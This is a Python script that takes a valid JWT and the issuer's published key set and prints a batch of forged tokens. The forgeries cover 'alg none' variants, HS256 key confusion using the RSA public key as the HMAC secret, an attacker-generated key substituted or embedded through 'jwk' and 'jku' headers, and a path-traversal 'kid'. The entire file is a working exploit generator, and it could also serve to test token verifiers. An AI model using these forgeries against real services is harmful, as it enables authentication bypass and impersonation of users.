"""Makes forged tokens out of a valid one, as somebody could who knows what everybody may know: the token's claims and the
issuer's public key.

Reads a JSON request from standard input: `token`, and `keys`, the URL of the issuer's keys. Prints an object of forged
tokens by what was done to them.
"""

import base64
import hashlib
import hmac
import json
import sys
import urllib.request

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa


def segment(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decoded(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def public_key(jwk):
    modulus, exponent = (int.from_bytes(decoded(jwk[name]), "big") for name in ("n", "e"))
    return rsa.RSAPublicNumbers(exponent, modulus).public_key()


def jwk_of(private, key_id):
    numbers = private.public_key().public_numbers()
    members = {
        name: segment(number.to_bytes((number.bit_length() + 7) // 8, "big"))
        for name, number in (("n", numbers.n), ("e", numbers.e))
    }
    return {"kty": "RSA", "alg": "RS256", "use": "sig", "kid": key_id, **members}


def forged(token, keys):
    first, claims, signature = token.split(".")
    header = json.loads(decoded(first))
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(keys, timeout=20) as answer:
        published = json.load(answer)["keys"]
    [jwk] = [key for key in published if key["kid"] == header["kid"]]
    public = public_key(jwk)
    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    own = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def with_header(changes, sign):
        changed = {name: value for name, value in {**header, **changes}.items() if value is not None}
        signed = f"{segment(json.dumps(changed).encode())}.{claims}"
        return f"{signed}.{sign(signed.encode())}"

    def by_own_key(signed):
        return segment(own.sign(signed, padding.PKCS1v15(), hashes.SHA256()))

    def by_secret(secret):
        return lambda signed: segment(hmac.new(secret, signed, hashlib.sha256).digest())

    def unsigned(_):
        return ""

    def as_before(_):
        return signature

    own_jwk = jwk_of(own, header["kid"])
    return {
        "alg none, without a signature": with_header({"alg": "none"}, unsigned),
        "alg none, spelt otherwise": with_header({"alg": "nOnE"}, unsigned),
        "alg none, with the old signature": with_header({"alg": "none"}, as_before),
        "no alg": with_header({"alg": None}, unsigned),
        "HS256 with the public key as PEM": with_header({"alg": "HS256"}, by_secret(pem)),
        "HS256 with the public key as PEM without its last line end": with_header({"alg": "HS256"}, by_secret(pem.strip())),
        "HS256 with the public key as DER": with_header({"alg": "HS256"}, by_secret(der)),
        "HS256 with the modulus as it is published": with_header({"alg": "HS256"}, by_secret(jwk["n"].encode())),
        "HS256 with an empty secret": with_header({"alg": "HS256"}, by_secret(b"")),
        "another key under the same kid": with_header({}, by_own_key),
        "another key under a kid of its own": with_header({"kid": "own"}, by_own_key),
        "another key, which the header contains": with_header({"kid": "own", "jwk": {**own_jwk, "kid": "own"}}, by_own_key),
        "another key, which the header contains under the same kid": with_header({"jwk": own_jwk}, by_own_key),
        "another key, to which the header points": with_header({"kid": "own", "jku": "http://127.0.0.1:9/keys"}, by_own_key),
        "the right signature under a wrong kid": with_header({"kid": "own"}, as_before),
        "a kid that is a path": with_header({"kid": "../../../../dev/null"}, by_secret(b"")),
        "no kid": with_header({"kid": None}, as_before),
    }


if __name__ == "__main__":
    json.dump(forged(**json.load(sys.stdin)), sys.stdout)
